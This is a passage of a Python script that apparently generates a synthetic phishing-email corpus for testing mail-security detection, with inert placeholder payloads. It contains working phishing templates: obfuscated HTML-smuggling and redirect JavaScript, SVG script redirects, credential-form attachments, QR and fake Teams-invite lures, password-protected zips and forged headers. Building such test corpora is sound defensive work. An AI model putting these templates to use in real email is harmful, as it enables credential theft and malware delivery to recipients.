                  f"l.href=window.URL.createObjectURL(f);l.download='{name}';document.body.appendChild(l);l.click();")
        elif style == "blob_reversed":
            js = (f"var d='{b64[::-1]}'.split('').reverse().join('');var b=window['at'+'ob'](d);var a=new Uint8Array(b.length);"
                  "for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);var f=new Blob([a],{type:'application/zip'});"
                  f"if(window.navigator.msSaveOrOpenBlob){{window.navigator.msSaveOrOpenBlob(f,'{name}');}}else{{"
                  f"var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download='{name}';l.click();}}")
        elif style == "datauri":
            js = (f"var l=document.createElement('a');l.href='data:application/octet-stream;base64,{b64}';"
                  f"l.download='{name}';document.body.appendChild(l);l.click();")
        elif style == "charcodes":
            codes = ",".join(str(b) for b in inner)
            js = (f"var a=new Uint8Array([{codes}]);var f=new Blob([a],{{type:'application/octet-stream'}});"
                  f"var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download='{name}';l.click();")
        else:
            core = (f"var b=atob('{b64}');var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);"
                    f"var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));l.download='{name}';l.click();")
            js = f"eval(atob('{base64.b64encode(core.encode()).decode()}'));"
        page = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Downloading...</title></head><body>"
                f"<p style=\"font-family:Arial\">Your document is downloading. If it does not start, enable downloads for "
                f"this page.</p><script>{js}</script></body></html>")
        return page, style, name

    def redirect_page(self, url, rcpt_addr):
        style = self.pick(["location", "meta", "replace_b64", "settimeout", "hex"])
        if style == "location":
            body = f"<script>window.location.href='{url}';</script>"
        elif style == "meta":
            body = f'<meta http-equiv="refresh" content="0; url={url}">'
        elif style == "replace_b64":
            body = f"<script>var e='{rcpt_addr}';window.location.replace(atob('{base64.b64encode(url.encode()).decode()}')+'#'+btoa(e));</script>"
        elif style == "settimeout":
            body = f"<script>setTimeout(function(){{document.location='{url}';}},{self.r.randrange(200, 3000)});</script>"
        else:
            hexed = "".join(f"\\x{b:02x}" for b in url.encode())
            body = f"<script>var u=\"{hexed}\";top.location=u;</script>"
        return (f"<html><head><title>{self.pick(['Loading', 'Please wait', 'Redirecting', 'Document'])}</title>{body if style == 'meta' else ''}</head>"
                f"<body>{'' if style == 'meta' else body}<p>Loading secure document...</p></body></html>"), style

    def svg_page(self, url, rcpt_addr, brand_key):
        if self.chance(0.5):
            return (f'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="120">'
                    f'<text x="10" y="40" font-family="Arial" font-size="16">Loading {BRANDS.get(brand_key, {}).get("name", self.tn)} '
                    f'document...</text><script type="text/javascript"><![CDATA[ var u = atob("{base64.b64encode(url.encode()).decode()}");'
                    f' window.location.href = u + "#{rcpt_addr}"; ]]></script></svg>'), "svg_script_redirect"
        page, _ = self.login_page(brand_key, rcpt_addr, self.pick(["plain", "js_action", "ajax"]))
        return (f'<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><foreignObject width="800" height="600">'
                f'<body xmlns="http://www.w3.org/1999/xhtml">{page}</body></foreignObject></svg>'), "svg_foreign_form"

    def qr_png(self, url):
        q = segno.make(url, error=self.pick(["l", "m", "q"]))
        buf = io.BytesIO()
        dark = self.pick(["#000000", "#000000", "#1a1a1a", "#002060"])
        q.save(buf, kind="png", scale=self.pick([4, 5, 6, 8]), border=self.pick([2, 4]), dark=dark, light="#ffffff")
        return buf.getvalue(), q

    def ics(self, url, rcpt_addr, rcpt_name, subject, organizer_addr, organizer_name):
        start = self.base_date + datetime.timedelta(days=1, hours=self.r.randrange(8, 16))
        end = start + datetime.timedelta(minutes=30)
        fmt = "%Y%m%dT%H%M%SZ"
        desc = (f"You have been invited to a Microsoft Teams meeting.\\n\\nJoin the meeting now: {url}\\n\\n"
                f"Meeting ID: {self.r.randrange(100, 999)} {self.r.randrange(100, 999)} {self.r.randrange(100, 999)}")
        lines = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0",
                 "METHOD:REQUEST", "BEGIN:VEVENT",
                 f"ORGANIZER;CN=\"{organizer_name}\":mailto:{organizer_addr}",
                 f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=\"{rcpt_name}\":mailto:{rcpt_addr}",
                 f"DESCRIPTION;LANGUAGE=en-US:{desc}", f"SUMMARY;LANGUAGE=en-US:{subject}",
                 f"LOCATION:{self.pick(['Microsoft Teams Meeting', 'Online', url])}",
                 f"DTSTART:{start.strftime(fmt)}", f"DTEND:{end.strftime(fmt)}",
                 f"DTSTAMP:{self.base_date.strftime(fmt)}", f"UID:{self.rand_token(32, '0123456789ABCDEF')}",
                 "SEQUENCE:0", "STATUS:CONFIRMED"]
        if self.chance(0.5):
            lines.append(f"URL:{url}")
        if self.chance(0.4):
            lines.append(f"ATTACH;FMTTYPE=text/html:{url}")
        lines += ["BEGIN:VALARM", "TRIGGER:-PT15M", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "END:VALARM",
                  "END:VEVENT", "END:VCALENDAR"]
        out = []
        for ln in lines:  # fold at 75 octets (RFC 5545 §3.1)
            while len(ln) > 75:
                out.append(ln[:75])
                ln = " " + ln[75:]
            out.append(ln)
        return "\r\n".join(out) + "\r\n"

    # --- one message ------------------------------------------------------------------------
    def build(self, idx, technique, depth=0):
        self.base_date = self.new_date()
        if technique == "bec_text":
            scenario = "bec"
        elif technique == "ics_invite":
            scenario = "meeting"
        elif technique in ("qr_inline", "qr_attached_image", "qr_pdf"):
            scenario = self.pick(["mfa_reenroll", "mfa_reenroll", "shared_document", "password_expiry", "payroll", "esign"])
        elif technique == "html_smuggling":
            scenario = self.pick(["invoice", "shared_document", "voicemail", "payroll", "delivery"])
        elif technique in ("html_attachment_form", "html_redirect_attachment", "svg_attachment"):
            scenario = self.pick(["voicemail", "shared_document", "invoice", "esign", "payroll", "password_expiry"])
        else:
            scenario = self.pick([s for s in SCENARIOS if s not in ("bec", "meeting")])
        brand_key = self.pick(SCENARIOS[scenario])
        rcpt_name, rcpt_addr = self.recipient()
        s_style, s_display, s_addr, env_from, reply_to = self.sender(brand_key, scenario)
        url_style, url = self.landing(brand_key, rcpt_addr)
        subject, heading, paras, cta = self.texts(scenario, brand_key, rcpt_name, rcpt_addr)
        charset = self.pick(["utf-8", "utf-8", "utf-8", "iso-8859-1", "windows-1252"])
        cte = self.pick(["quoted-printable"] * 4 + ["base64"] * 2 + ["8bit"] * 2 + ["7bit"] * 2)
        if cte == "7bit":
            try:
                "".join(paras).encode("ascii")
            except UnicodeEncodeError:
                cte = "quoted-printable"
        if charset != "utf-8":
            try:
                "".join(paras + [subject]).encode(charset)
            except UnicodeEncodeError:
                charset = "utf-8"
        bnd = lambda: self.pick(["----=_Part_", "_000_", "=_NextPart_", "b1_", "--boundary_", "----=_NextPart_000_"]) + \
            self.rand_token(self.pick([16, 24, 32]), string.ascii_letters + string.digits)
        meta = dict(technique=technique, scenario=scenario, brand=brand_key, sender_style=s_style, url_style=url_style,
                    url=url, charset=charset, cte=cte, synthetic=True)
        attachments = []
        body_html = None
        body_text = None
        related = []

        if technique == "bec_text":
            body_text = paras[0] + "\n" + self.pick(["Sent from my iPhone", "Regards,", "Thanks,", "-- \nSent from Outlook for iOS"]) + "\n"
            meta["url"] = None
            meta["url_style"] = None
        elif technique in ("link_body", "link_text_mismatch", "cred_form_body"):
            visible = None
            extra = ""
            if technique == "link_text_mismatch":
                real_dom = self.td if brand_key == "tenant" else self.pick(BRANDS[brand_key]["domains"])
                visible = self.pick([f"https://login.microsoftonline.com/common/oauth2/authorize?client_id={self.rand_token(8)}",
                                     f"https://www.{real_dom}/account/verify", f"https://{real_dom}/signin",
                                     f"https://portal.{real_dom}/secure", f"www.{real_dom}"])
            if technique == "cred_form_body":
                page, endpoint = self.login_page(brand_key, rcpt_addr, "plain", wrap=False)
                extra = page[page.index("<form"):page.index("</form>") + 7]
                meta["form_action"] = endpoint
                cta_href = url
            else:
                cta_href = url
            if url_style != "userinfo" and self.chance(0.15):  # href written with character references
                cta_href = "".join(f"&#{ord(c)};" if self.chance(0.5) else c for c in url)
            body_html = self.html_email(brand_key, heading, paras, cta, cta_href, visible, extra, rcpt_addr)
            if self.chance(0.5):
                body_text = "\n\n".join(paras) + f"\n\n{cta}: {url}\n"
        elif technique in ("html_attachment_form", "html_smuggling", "html_redirect_attachment", "svg_attachment"):
            if technique == "html_attachment_form":
                page, endpoint = self.login_page(brand_key, rcpt_addr, self.pick(["plain", "js_action", "telegram", "ajax"]))
                meta["form_action"] = endpoint
                fname = self.pick(["Voice_Message_{n}.html", "INV_{n}.htm", "Secure_Document.html", "Payment_Advice.shtml",
                                   "Scan_{n}.html", "Remittance-{n}.htm", "{addr}_document.html"])
            elif technique == "html_smuggling":
                page, sm_style, payload = self.smuggling_page(rcpt_addr)
                meta["smuggling"] = sm_style
                meta["payload_name"] = payload
                meta["url"] = None
                meta["url_style"] = None
                fname = self.pick(["Invoice_{n}.html", "Document_{n}.htm", "Remittance_Advice.html", "Statement.html"])
            elif technique == "html_redirect_attachment":
                page, rd = self.redirect_page(url, rcpt_addr)
                meta["redirect"] = rd
                fname = self.pick(["Audio_Message_{n}.htm", "Fax_{n}.html", "Document.html", "PO_{n}.html"])
            else:
                page, sv = self.svg_page(url, rcpt_addr, brand_key)
                meta["svg"] = sv
                fname = self.pick(["Voicemail_{n}.svg", "Document_{n}.svg", "Invoice.svg", "Play_Audio.svg"])
            fname = fname.format(n=self.r.randrange(1000, 99999), addr=rcpt_addr.split("@")[0])
            ctype = "image/svg+xml" if fname.endswith(".svg") else self.pick(["text/html", "text/html", "application/octet-stream"])
            attachments.append((ctype, page.encode(), fname))
            short = [paras[0], self.pick([f"Please see the attached file ({fname}).", "The document is attached for your review.",
                                          "Open the attachment to listen to the message.", "Details are in the attached file."])]
            if self.chance(0.5):
                body_html = self.html_email(brand_key, heading, short, cta, None, None, "", rcpt_addr,
                                            link_html=f'<p style="font-weight:600">{cta}: see the attachment {fname}</p>')
            else:
                body_text = "\n\n".join(short) + "\n"
        elif technique in ("qr_inline", "qr_attached_image", "qr_pdf"):
            png, q = self.qr_png(url)
            qtext = ["Scan the QR code below with your phone camera to continue.",
                     "Use your mobile device to scan the code; the link expires in 24 hours."]
            if technique == "qr_inline":
                cid = f"image001.png@01DA{self.rand_token(4, '0123456789ABCDEF')}.{self.rand_token(8, '0123456789ABCDEF')}"
                related.append(("image/png", png, self.pick(["image001.png", "qr.png", "code.png"]), cid))
                extra = f'<p><img src="cid:{cid}" width="200" height="200" alt="QR"></p>'
                body_html = self.html_email(brand_key, heading, paras + [self.pick(qtext)], cta, None, None, "", rcpt_addr,
                                            link_html=extra)
            elif technique == "qr_attached_image":
                attachments.append(("image/png", png, self.pick(["QR_Code.png", "Secure_Access.png", "MFA_Setup.png", "scan.png"])))
                body_text = "\n\n".join(paras + ["The QR code is attached. " + self.pick(qtext)]) + "\n"
            else:
                heading_pdf = heading or "Secure document"
                doc = pdf([heading_pdf, paras[0][:90], self.pick(qtext), "", "Reference: " + self.rand_token(10).upper()],
                          qr_matrix=[[1 if v else 0 for v in row] for row in q.matrix], title=heading_pdf)
                attachments.append(("application/pdf", doc, self.pick(["Secure_Message.pdf", "MFA_Update.pdf",
                                                                         "Document_{n}.pdf".format(n=self.r.randrange(1000, 9999))])))
                body_text = "\n\n".join([paras[0], "Please open the attached PDF and follow the instructions."]) + "\n"
            meta["qr"] = True
        elif technique == "pdf_link":
            doc = pdf([heading or "Document", paras[-1][:90], "Click the button below to view the protected content.", ""],
                      link=(cta or "Open", url), title=heading or "Document")
            attachments.append(("application/pdf", doc, self.pick(["Document_{n}.pdf", "Invoice_{n}.pdf", "Shared_File.pdf",
                                                                     "Payment_Confirmation.pdf"]).format(n=self.r.randrange(1000, 99999))))
            body_text = "\n\n".join([paras[0], "Please review the attached document."]) + "\n"
        elif technique == "zip_password":
            pw = self.pick([str(self.r.randrange(1000, 9999)), self.rand_token(6).upper(), "INV" + str(self.r.randrange(100, 999)),
                            "2026", "Secure" + str(self.r.randrange(10, 99))])
            inner_kind = self.pick(["html", "js", "lnk", "exe_named"])
            if inner_kind == "html":
                page, endpoint = self.login_page(brand_key, rcpt_addr, "plain")
                entries = [(f"Invoice_{self.r.randrange(1000, 9999)}.html", page.encode())]
                meta["form_action"] = endpoint
            elif inner_kind == "js":
                entries = [(f"Invoice_{self.r.randrange(1000, 9999)}.pdf.js", b"WScript.Echo(\"exogate corpus benchmark: harmless placeholder\");\r\n")]
            elif inner_kind == "lnk":
                entries = [(f"Document_{self.r.randrange(1000, 9999)}.pdf.lnk", b"placeholder: not a real shortcut\r\n")]
            else:
                entries = [(f"Payment_{self.r.randrange(1000, 9999)}.exe", b"MZ placeholder: not a program\r\n")]
            z = zip_archive(entries, password=pw, rng=self.r)
            zname = self.pick(["Invoice_{n}.zip", "Documents.zip", "Payment_{n}.zip", "Secure_Files.zip"]).format(n=self.r.randrange(1000, 9999))
            attachments.append((self.pick(["application/zip", "application/x-zip-compressed", "application/octet-stream"]), z, zname))
            pw_line = self.pick([f"Password: {pw}", f"The archive password is {pw}", f"Use {pw} to open the attached file.",
                                 f"Passwort: {pw}", f"PW: {pw}", f"For security reasons the file is protected. Password - {pw}"])
            body_text = "\n\n".join([paras[0], "The requested documents are attached.", pw_line]) + "\n"
            meta["zip_password"] = pw
            meta["zip_inner"] = inner_kind
            meta["url"] = None
            meta["url_style"] = None
        elif technique == "ics_invite":
            cal = self.ics(url, rcpt_addr, rcpt_name, subject, s_addr, s_display)
            meta["ics"] = True
            if self.chance(0.5):
                body_html = self.html_email(brand_key, heading, paras, cta, url, None, "", rcpt_addr)
            else:
                body_text = "\n\n".join(paras) + "\n\nSee the attached invitation.\n"
            attachments.append(("text/calendar; method=REQUEST", cal.encode(), self.pick(["invite.ics", "meeting.ics", "Teams_Meeting.ics"])))
        elif technique == "eml_attachment":
            inner_tech = self.pick(["link_body", "link_text_mismatch", "html_attachment_form", "qr_inline", "cred_form_body"])
            inner_bytes, inner_meta = self.build(idx, inner_tech, depth + 1)
            self.base_date = self.new_date()
            meta["inner"] = inner_meta
            meta["url"] = inner_meta.get("url")
            meta["url_style"] = inner_meta.get("url_style")
            subject = self.pick(["FW: " + inner_meta["subject"], "Fwd: message", "Voicemail received", "Scanned message",
                                 "Undelivered message returned", "Message quarantined for review"])
            body_text = self.pick(["Please see the forwarded message below.\n", "Forwarding for your attention.\n",
                                   "One message was held for your review. Open the attached message to release it.\n"])
            attachments.append(("message/rfc822", inner_bytes, self.pick(["Message.eml", "FW_Message.eml", "Quarantined_message.eml", None])))

        # --- assemble -----------------------------------------------------------------------
        nl = "\r\n" if self.chance(0.8) else "\n"

        def text_part(kind, content):
            return Part(f"text/{kind}", encode_body(content, cte, charset), cte, charset)

        if body_html is not None and body_text is None and self.chance(0.6):
            body_text = re.sub(r"<[^>]+>", " ", body_html)
            body_text = re.sub(r"[ \t]+", " ", body_text).strip() + "\n"
        if body_html is not None and body_text is not None:
            core = Multipart("alternative", [text_part("plain", body_text), text_part("html", body_html)], bnd())
        elif body_html is not None:
            core = text_part("html", body_html)
        else:
            core = text_part("plain", body_text)
        if related:
            core = Multipart("related", [core] + [
                Part(ct, encode_body(data, "base64"), "base64", None, self.pick(["inline", None]), fn, cid)
                for ct, data, fn, cid in related], bnd(), ' type="text/html";' if body_html and body_text is None else "")
        if attachments:
            parts = [core]
            for ct, data, fn in attachments:
                if ct == "message/rfc822":
                    parts.append(Part(ct, data.decode("latin-1"), None, None, "attachment" if fn else None, fn))
                else:
                    quirky = self.chance(0.15)
                    parts.append(Part(ct, encode_body(data, "base64"), "base64", None,
                                      self.pick(["attachment", "attachment", "inline"]), fn, name_param=not quirky))
            root = Multipart("mixed", parts, bnd())
        else:
            root = core

        subj_enc = self.pick(["none"] * 7 + ["b"] * 2 + ["q"])   # ASCII text encoded anyway: a kit habit
        disp_enc = self.pick(["none"] * 7 + ["b"] * 2 + ["q"])
        from_hdr = f"{encoded_word(s_display, 'utf-8', disp_enc) if disp_enc != 'none' or not s_display.isascii() else _quote(s_display)} <{s_addr}>"
        date = self.base_date.strftime("%a, %d %b %Y %H:%M:%S +0000")
        sdom = s_addr.split("@")[1]
        relay_host = self.pick([f"mail.{sdom}", f"smtp{self.r.randrange(1, 9)}.{self.random_domain()}",
                                f"{self.rand_token(6)}.{self.pick(['vps', 'host', 'srv'])}.{self.random_domain()}",
                                "localhost", f"ip-{self.doc_ip().replace('.', '-')}.ec2.internal"])
        ip = self.doc_ip()
        mx = self.pick([f"mx{self.r.randrange(1, 4)}.{self.td}", f"{self.tbase}-com.mail.protection.outlook.com"])
        headers = [
            ("Return-Path", f"<{env_from}>"),
            ("Received", f"from {relay_host} ({relay_host} [{ip}]){nl}\tby {mx} with ESMTPS id {self.rand_token(12).upper()}{nl}"
                         f"\tfor <{rcpt_addr}>; {date}"),
        ]
        if self.chance(0.4):
            headers.append(("Received", f"from [{self.doc_ip()}] (unknown [{self.doc_ip()}]){nl}\tby {relay_host} with ESMTPA; {date}"))
        headers += [
            ("From", from_hdr),
            ("To", self.pick([f"{_quote(rcpt_name)} <{rcpt_addr}>", rcpt_addr, f"<{rcpt_addr}>"])),
            ("Subject", encoded_word(subject, "utf-8", subj_enc)),
            ("Date", date),
            ("Message-ID", f"<{self.rand_token(20)}@{self.pick([sdom, relay_host, self.random_domain()])}>"),
            ("MIME-Version", "1.0"),
        ]
        if reply_to:
            headers.append(("Reply-To", reply_to))
        mailer = self.pick(MAILERS)
        if mailer:
            headers.append(("X-Mailer", mailer))
        if self.chance(0.2):
            headers.append(("X-Priority", "1 (Highest)"))
            headers.append(("Importance", "High"))
        raw = message(headers, root, nl)
        meta.update(subject=subject, sender=s_addr, display=s_display, envelope_from=env_from, reply_to=reply_to,
                    recipient=rcpt_addr, structure=_structure(root), newline="CRLF" if nl == "\r\n" else "LF")
        return raw, meta


def _quote(name):
    if any(c in name for c in ',.;:()<>@"[]'):
        return '"' + name.replace('"', "'") + '"'
    return name


def _structure(node):
    if isinstance(node, Multipart):
        return f"multipart/{node.subtype}(" + ",".join(_structure(p) for p in node.parts) + ")"
    return node.headers[0][1].split(";")[0]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--count", type=int, default=360)
    ap.add_argument("--seed", type=int, default=17)
    ap.add_argument("--tenant-domain", default="contoso.com")
    ap.add_argument("--tenant-name", default="Contoso")
    ap.add_argument("--date", default="2026-12-01T12:00:00", help="messages are dated up to 2 days before (UTC)")
    a = ap.parse_args()
    date = datetime.datetime.fromisoformat(a.date).replace(tzinfo=datetime.timezone.utc)
    os.makedirs(a.out, exist_ok=True)
    g = Gen(a.seed, a.tenant_domain, a.tenant_name, date)
    with open(os.path.join(a.out, "manifest.jsonl"), "w") as man:
        for i in range(a.count):
            tech = TECHNIQUES[i % len(TECHNIQUES)]
            raw, meta = g.build(i, tech)
            name = f"{i + 1:04d}-{tech}.eml"
            with open(os.path.join(a.out, name), "wb") as f:
                f.write(raw)
            meta["file"] = name
            man.write(json.dumps(meta, ensure_ascii=False, sort_keys=True) + "\n")


if __name__ == "__main__":
    main()
